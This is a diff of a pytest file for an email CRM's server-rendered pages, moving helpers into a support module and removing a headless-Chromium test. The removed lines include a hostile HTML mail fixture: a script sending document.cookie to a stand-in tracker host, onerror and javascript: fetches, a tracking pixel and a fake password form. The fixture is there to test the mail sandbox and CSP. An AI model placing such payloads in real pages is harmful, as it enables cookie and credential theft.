@@ -1,232 +1,42 @@
-"""The server-rendered pages: sign-in, a contact's timeline, a ticket, the ticket list and the reports.
+"""The server-rendered pages through TestClient: sign-in, a contact's timeline, a ticket, the ticket list and
+the reports.
 
-(a) Through TestClient against the real app and database (SQLite and PostgreSQL), with data made by the real
-    ingest and the real `require` of `inboxcrm.web.auth`.
-(b) In a real headless Chromium (Debian's chromium + chromium-driver, installed by the `chromium` fixture if
-    missing; never skipped), against a real uvicorn: sign-in by the form, the timeline, a hostile HTML mail
-    (nothing it points at is fetched: a local "tracker" counts requests) and the charts, with screenshots at
-    phone and desktop sizes in test-artifacts/pages/.
+Against the real app and database (SQLite and PostgreSQL), with data made by the real ingest and the real
+`require` of `inboxcrm.web.auth`. The same pages in a real headless Chromium: tests/web/test_pages_browser.py.
 """
 
 from __future__ import annotations
 
-import base64
-import contextlib
-import fcntl
 import html
-import http.server
-import os
 import re
-import shutil
-import socket
-import subprocess
-import threading
-import time
-from collections.abc import Callable, Iterator, Mapping
-from datetime import UTC, datetime, timedelta
-from email.message import EmailMessage
+from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
 import pytest
-from fastapi import Depends, FastAPI, HTTPException, Request
+from fastapi import Depends, HTTPException, Request
 from fastapi.testclient import TestClient
-from sqlalchemy import insert, select
 
 from inboxcrm import bootstrap
 from inboxcrm.adapters.db import migrate
-from inboxcrm.adapters.db import tables as t
-from inboxcrm.core.model import MailboxKind, MailboxProfile
-from inboxcrm.core.ports import FetchedMessage
-from inboxcrm.core.reply_tokens import relay_address
-from inboxcrm.services.access import Access, ConfiguredToken
-from inboxcrm.services.desk import tick_tickets
-from inboxcrm.web.auth import COOKIE, Require, Scope, authenticate
+from inboxcrm.web.auth import COOKIE, Scope
 from inboxcrm.web.mail_html import FRAME_CSP, FRAME_SANDBOX
-from inboxcrm.web.pages import page_routes
 from inboxcrm.web.render import PAGE_CSP
-from tests.conftest import ROOT, make_settings
-from tests.support.desk import ANA, desk_config
+from tests.conftest import make_settings
 from tests.support.mail import mail
-
-SUPPORT = MailboxProfile("support", MailboxKind.SUPPORT, frozenset({"support@northwind.example"}))
-SECRET = "test-secret"
-TOKEN = "page-reader-token"
-ARTIFACTS = ROOT / "test-artifacts" / "pages"
-EXTRA = (
-    desk_config(ANA.but(display_name="Ana Alves"), secret=SECRET)
-    + """
-[sla]
-timezone = "UTC"
-
-[sla.targets]
-normal = { first_response = "4h", resolution = "2d" }
-high = { first_response = "1h", resolution = "8h" }
-"""
+from tests.web.pages_support import (
+    EXTRA,
+    TOKEN,
+    Clock,
+    Document,
+    hostile_html,
+    html_mail,
+    ingest,
+    pages_app,
+    real_require,
+    work_a_ticket,
 )
-
-
-class Clock:
-    def __init__(self) -> None:
-        self.now = datetime(2026, 11, 2, 10, 5, tzinfo=UTC)
-
-    def __call__(self) -> datetime:
-        return self.now
-
-
-_uid = iter(range(1, 1_000_000))
-
-
-def ingest(app: bootstrap.App, *raws: bytes) -> None:
-    app.ingest.ingest_batch(SUPPORT, "INBOX", 1, [FetchedMessage(next(_uid), r) for r in raws])
-
-
-def html_mail(body: str, *, subject: str = "Invoice overdue", message_id: str = "h1@acme-corp.example") -> bytes:
-    """A customer's multipart/alternative mail: a short text part and `body` as the HTML part."""
-    message = EmailMessage()
-    message["From"] = "Carol Danvers <carol@acme-corp.example>"
-    message["To"] = "support@northwind.example"
-    message["Subject"] = subject
-    message["Message-ID"] = f"<{message_id}>"
-    message["Date"] = "Mon, 02 Nov 2026 12:00:00 +0000"
-    message.set_content("Your invoice is overdue (text part).\n")
-    message.add_alternative(body, subtype="html")
-    return message.as_bytes()
-
-
-def hostile_html(tracker: str = "https://tracker.example") -> str:
-    """A mail that tries every way we know to run script, phone home or phish from inside our page."""
-    return f"""<html><head><style>body{{background:url({tracker}/bg.png)}}</style>
-<link rel="stylesheet" href="{tracker}/style.css"></head><body onload="steal()">
-<script>fetch('{tracker}/script?c=' + document.cookie)</script>
-<h2>Dear customer,</h2>
-<p>Your invoice <b>INV-7</b> is overdue.</p>
-<img src="{tracker}/p.gif" width="1" height="1" alt="">
-<img src="x" onerror="fetch('{tracker}/onerror')">
-<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="dot">
-<a href="javascript:fetch('{tracker}/js')">Pay now</a>
-<a href="https://acme-corp.example/invoice">See the invoice</a>
-<p style="color:#a00;background-image:url({tracker}/bg2.png)">Kind regards</p>
-<form action="{tracker}/login"><input name="password"></form>
-</body></html>"""
-
-
-def message_html_of(app: bootstrap.App) -> Callable[[int], str | None]:
-    """What `message_html` will be in production: the stored HTML body (`messages.html`) of a message."""
-
-    def message_html(message_id: int) -> str | None:
-        with app.engine.connect() as connection:
-            return connection.execute(select(t.messages.c.html).where(t.messages.c.id == message_id)).scalar()
-
-    return message_html
-
-
-def report_data(since: datetime, until: datetime) -> Mapping[str, Any]:
-    """Figures shaped as the real report queries give them (the pages do not compute them)."""
-    day = until.date()
-    return {
-        "tickets_by_day": [
-            {"day": (day - timedelta(days=n)).isoformat(), "count": c} for n, c in enumerate([3, 0, 5, 2, 8, 1, 4])
-        ],
-        "funnel": [
-            {"stage": "subscriber", "contacts": 120},
-            {"stage": "lead", "contacts": 60},
-            {"stage": "sql", "contacts": 18},
-            {"stage": "customer", "contacts": 7},
-        ],
-        "scores": [
-            {"bucket": f"{lo}–{lo + 10}", "contacts": n}
-            for lo, n in zip(range(0, 100, 10), [9, 14, 20, 11, 7, 5, 3, 2, 1, 1], strict=True)
-        ],
-        "pipeline": [{"stage": "proposal", "deals": 3, "value": 4200.0}, {"stage": "won", "deals": 2, "value": 9000.0}],
-    }
-
-
-def real_require(rate_limit: int = 1000) -> Require:
-    """The `require` that create_app builds (`app.state.require`), with one read-only configured token."""
-    return authenticate(Access([ConfiguredToken(TOKEN, "pages", Scope.READ)], rate_limit=rate_limit))
-
-
-def pages_app(app: bootstrap.App, require: Require | None = None, *, reports: bool = True) -> FastAPI:
-    web = FastAPI()
-    web.include_router(
-        page_routes(
-            app.reads,
-            require or real_require(),
-            message_html_of(app),
-            report_data if reports else None,
-            pipeline_stages=("proposal", "won"),
-        )
-    )
-    return web
-
-
-def work_a_ticket(app: bootstrap.App, clock: Clock) -> None:
-    """Carol writes; Ana answers through the relay with commands and a note; Carol answers quoting her; the
-    first-response target is missed; campaign and score events are on Carol's timeline too."""
-    ingest(app, mail(message_id="c1@acme-corp.example"))
-    relay = relay_address("support@northwind.example", 1, False, datetime(2027, 1, 1).date(), SECRET.encode())
-    clock.now = datetime(2026, 11, 2, 15, 0, tzinfo=UTC)
-    tick_tickets(app.store, app.support, clock.now)  # 5 h without an answer: the 4 h target is missed
-    ingest(
-        app,
-        mail(
-            from_="Ana Alves <ana@northwind.example>",
-            to=relay,
-            subject="Re: [#1] New ticket: Printer on fire",
-            message_id="a1@northwind.example",
-            body="#assign ana\n#priority high\n#tag hardware\n\nHi Carol,\n\nplease unplug it first.\n\nAna\n",
-            date="Mon, 02 Nov 2026 15:10:00 +0000",
-        ),
-    )
-    ingest(
-        app,
-        mail(
-            message_id="c2@acme-corp.example",
-            subject="Re: Printer on fire [#1]",
-            in_reply_to="c1@acme-corp.example",
-            body="Unplugged, it still smokes.\n\nOn Mon, 2 Nov 2026 at 15:10, Northwind Support wrote:\n"
-            "> Hi Carol,\n> please unplug it first.\n",
-            date="Mon, 02 Nov 2026 16:00:00 +0000",
-        ),
-    )
-    with app.engine.begin() as connection:
-        at = datetime(2026, 11, 3, 9, 0)
-        connection.execute(
-            insert(t.timeline_events),
-            [
-                {"contact_id": 1, "at": at, "kind": "score_changed", "summary": "Score +10: opened a ticket"},
-                {"contact_id": 1, "at": at, "kind": "stage_changed", "summary": "Stage lead → customer"},
-                {"contact_id": 1, "at": at, "kind": "campaign_enrolled", "summary": "Enrolled in campaign onboarding"},
-                {"contact_id": 1, "at": at, "kind": "mail_sent", "summary": "onboarding step 1 sent"},
-                {"contact_id": 1, "at": at, "kind": "campaign_replied", "summary": "Replied to onboarding step 1"},
-                {"contact_id": 1, "at": at, "kind": "campaign_unsubscribed", "summary": "Unsubscribed from onboarding"},
-            ],
-        )
-
-
-class Document(HTMLParser):
-    """The parts of a page the tests look at: every start tag with its (unescaped) attributes, and text."""
-
-    def __init__(self, text: str) -> None:
-        super().__init__()
-        self.tags: list[tuple[str, dict[str, str]]] = []
-        self.texts: list[str] = []
-        self.feed(text)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, {k: v or "" for k, v in attrs}))
-
-    def handle_data(self, data: str) -> None:
-        if data.strip():
-            self.texts.append(data.strip())
-
-    def all(self, tag: str) -> list[dict[str, str]]:
-        return [attrs for name, attrs in self.tags if name == tag]
-
-
-# --- (a) through TestClient ------------------------------------------------------------------------------
 
 
 @pytest.fixture
@@ -543,209 +353,3 @@ def test_the_reports_page_without_report_queries_shows_pipeline_and_campaigns(de
     assert "<svg" not in page.text  # no deals yet: nothing to draw, but the configured stages are listed
     assert "<td>proposal</td>" in page.text and "<td>won</td>" in page.text
     assert "No campaigns have enrolled anyone yet." in page.text
-
-
-# --- (b) in a real browser ------------------------------------------------------------------------------
-
-
-@pytest.fixture(scope="session")
-def chromium() -> tuple[str, str]:
-    """Debian's chromium and chromedriver, installed with apt-get when missing (under a lock: xdist workers
-    share the machine). Fails, never skips, when they cannot be had."""
-    lock = Path("/tmp/inboxcrm-chromium-install.lock")
-    with lock.open("w") as held:
-        fcntl.flock(held, fcntl.LOCK_EX)
-        if not (shutil.which("chromium") and shutil.which("chromedriver")):
-            if shutil.which("apt-get") is None:
-                pytest.fail("chromium/chromedriver are missing and apt-get is not available to install them")
-            env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
-            command = ["apt-get", "install", "-y", "-q", "chromium", "chromium-driver"]
-            done = subprocess.run(command, capture_output=True, text=True, env=env, check=False)
-            if done.returncode != 0:  # a fresh machine may have no package lists yet
-                subprocess.run(["apt-get", "update", "-q"], capture_output=True, env=env, check=False)
-                done = subprocess.run(command, capture_output=True, text=True, env=env, check=False)
-            if done.returncode != 0:
-                pytest.fail(
-                    f"apt-get install chromium chromium-driver failed:\n{done.stdout[-2000:]}{done.stderr[-2000:]}"
-                )
-    browser, driver = shutil.which("chromium"), shutil.which("chromedriver")
-    if not (browser and driver):
-        pytest.fail("apt-get installed chromium and chromium-driver, but they are not on PATH")
-    return browser, driver
-
-
-class Tracker(http.server.ThreadingHTTPServer):
-    """A local stand-in for a mail tracker: counts every request it gets."""
-
-    def __init__(self) -> None:
-        self.hits: list[str] = []
-        tracker = self
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                tracker.hits.append(self.path)
-                self.send_response(200)
-                self.send_header("Content-Type", "image/gif")
-                self.end_headers()
-
-            def log_message(self, format: str, *args: Any) -> None:
-                pass
-
-        super().__init__(("127.0.0.1", 0), Handler)
-
-
-@contextlib.contextmanager
-def serving(web: FastAPI) -> Iterator[str]:
-    """`web` on a real uvicorn on a free loopback port, in a thread; yields its base URL."""
-    import uvicorn
-
-    sock = socket.socket()
-    sock.bind(("127.0.0.1", 0))
-    server = uvicorn.Server(uvicorn.Config(web, log_level="warning", lifespan="off"))
-    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 20
-    while not server.started:
-        if time.monotonic() > deadline or not thread.is_alive():
-            pytest.fail("uvicorn did not start")
-        time.sleep(0.02)
-    try:
-        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
-    finally:
-        server.should_exit = True
-        thread.join(10)
-        sock.close()
-
-
-def test_the_pages_in_headless_chromium(tmp_path: Path, chromium: tuple[str, str]) -> None:
-    try:
-        from selenium import webdriver
-        from selenium.webdriver.chrome.options import Options
-        from selenium.webdriver.chrome.service import Service
-        from selenium.webdriver.common.by import By
-    except ImportError:
-        pytest.fail("selenium is missing: install the dev extras (pip install -e '.[dev]')")
-
-    tracker = Tracker()
-    threading.Thread(target=tracker.serve_forever, daemon=True).start()
-    tracker_url = f"http://127.0.0.1:{tracker.server_address[1]}"
-    clock = Clock()
-    app = bootstrap.build(make_settings(tmp_path, f"sqlite:///{tmp_path / 'pages.db'}", EXTRA), clock=clock)
-    migrate.upgrade(app.engine)
-    options = Options()
-    options.binary_location = chromium[0]
-    for argument in (
-        "--headless=new",
-        "--no-sandbox",  # we run as root
-        "--disable-dev-shm-usage",
-        "--disable-gpu",
-        "--no-first-run",
-        "--disable-background-networking",
-        "--disable-component-update",
-        # nothing leaves this machine, whatever a page asks for
-        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
-        "--window-size=1280,900",
-    ):
-        options.add_argument(argument)
-    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
-    ARTIFACTS.mkdir(parents=True, exist_ok=True)
-    try:
-        work_a_ticket(app, clock)
-        ingest(app, html_mail(hostile_html(tracker_url), message_id="h2@acme-corp.example"))
-        with serving(pages_app(app)) as base:
-            driver = webdriver.Chrome(options=options, service=Service(executable_path=chromium[1]))
-            try:
-                _browse(driver, base, By)
-            finally:
-                driver.quit()
-    finally:
-        app.close()
-        tracker.shutdown()
-    assert tracker.hits == []  # not one request reached the tracker: no pixel, no CSS, no script, no form
-
-
-def _screenshot(driver: Any, name: str, phone: bool, scroll_to: str | None = None) -> None:
-    """A PNG at phone (390×844, a touch device honouring the viewport meta) or desktop (1280×900) size: the
-    whole page, or with `scroll_to` (a CSS selector) the screen showing that element. Also checks that the
-    page does not scroll sideways."""
-    if phone:
-        driver.execute_cdp_cmd(
-            "Emulation.setDeviceMetricsOverride", {"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": True}
-        )
-    else:
-        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
-    driver.refresh()
-    width = driver.execute_script("return document.documentElement.scrollWidth")
-    viewport = driver.execute_script("return window.innerWidth")
-    assert width <= viewport, f"{name}: the page scrolls sideways ({width} > {viewport})"
-    if scroll_to:
-        driver.execute_script("arguments[0].scrollIntoView()", driver.find_element("css selector", scroll_to))
-    # a frame outside the screen is not painted into a whole-page capture: such shots show the screen only
-    shot = driver.execute_cdp_cmd("Page.captureScreenshot", {"format": "png", "captureBeyondViewport": not scroll_to})
-    (ARTIFACTS / f"{name}-{'phone' if phone else 'desktop'}.png").write_bytes(base64.b64decode(shot["data"]))
-
-
-def _browse(driver: Any, base: str, by: Any) -> None:
-    # not signed in: the browser lands on the sign-in form, and comes back to the page it asked for
-    driver.get(f"{base}/contacts/1/page")
-    assert driver.current_url == f"{base}/sign-in?next=%2Fcontacts%2F1%2Fpage"
-    driver.find_element(by.ID, "token").send_keys(TOKEN)
-    driver.find_element(by.CSS_SELECTOR, "form[action='/sign-in'] button").click()
-    from selenium.webdriver.support.wait import WebDriverWait
-
-    WebDriverWait(driver, 20).until(lambda d: "/sign-in" not in d.current_url)  # the click does not wait
-    assert driver.current_url == f"{base}/contacts/1/page"
-    cookie = driver.get_cookie(COOKIE)
-    assert cookie["value"] == TOKEN and cookie["httpOnly"] is True and cookie["sameSite"] == "Strict"
-    assert cookie["secure"] is False  # plain http on 127.0.0.1: see sign_in.secure_cookie
-    assert driver.execute_script("return document.cookie") == ""  # HttpOnly: invisible to scripts
-
-    # the timeline: every entry, and the quoted text opens with a click (a <details>, no script)
-    entries = driver.find_elements(by.CSS_SELECTOR, "li[data-kind]")
-    assert len(entries) >= 12
-    quote = driver.find_element(by.XPATH, "//summary[text()='Quoted text']/following-sibling::div")
-    assert not quote.is_displayed()
-    quote.find_element(by.XPATH, "../summary").click()
-    assert quote.is_displayed() and "please unplug it first" in quote.text
-    _screenshot(driver, "contact", phone=True)
-    _screenshot(driver, "contact", phone=False)
-
-    # the hostile mail: rendered inside the sandboxed frame, with nothing of it running or loading
-    driver.get(f"{base}/tickets/2/page")
-    frame = driver.find_element(by.CSS_SELECTOR, "iframe.mail")
-    assert frame.size["height"] > 100 and frame.size["width"] > 300
-    driver.switch_to.frame(frame)
-    try:
-        assert driver.find_element(by.TAG_NAME, "h2").text == "Dear customer,"
-        assert "INV-7" in driver.find_element(by.TAG_NAME, "body").text
-        assert driver.find_elements(by.TAG_NAME, "script") == []
-        assert [i.get_attribute("src") for i in driver.find_elements(by.TAG_NAME, "img")][:2] == [None, None]
-        assert driver.find_element(by.LINK_TEXT, "Pay now").get_attribute("href") is None
-    finally:
-        driver.switch_to.default_content()
-    _screenshot(driver, "ticket", phone=True)
-    _screenshot(driver, "ticket-message", phone=True, scroll_to="article")
-    driver.switch_to.frame(driver.find_element(by.CSS_SELECTOR, "iframe.mail"))
-    try:  # on a phone too, the mail is there and fits the frame's width
-        assert driver.find_element(by.TAG_NAME, "h2").is_displayed()
-        assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth")
-    finally:
-        driver.switch_to.default_content()
-    _screenshot(driver, "ticket", phone=False)
-
-    # the reports: four SVG charts whose bars have a height on screen
-    driver.get(f"{base}/reports/page?days=7")
-    charts = driver.find_elements(by.CSS_SELECTOR, "svg.chart")
-    assert len(charts) == 4
-    for chart in charts:
-        heights = [bar.rect["height"] for bar in chart.find_elements(by.CSS_SELECTOR, "rect.bar")]
-        assert heights and max(heights) > 10, chart.get_attribute("aria-label")
-        assert chart.rect["width"] > 300
-    _screenshot(driver, "reports", phone=True)
-    phone_widths = [c.rect["width"] for c in driver.find_elements(by.CSS_SELECTOR, "svg.chart")]
-    assert all(w <= 390 for w in phone_widths)  # single column on a phone
-    _screenshot(driver, "reports", phone=False)
-
-    # the CSP let everything of ours through, and the browser reported nothing else refused
-    problems = [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
-    assert problems == []
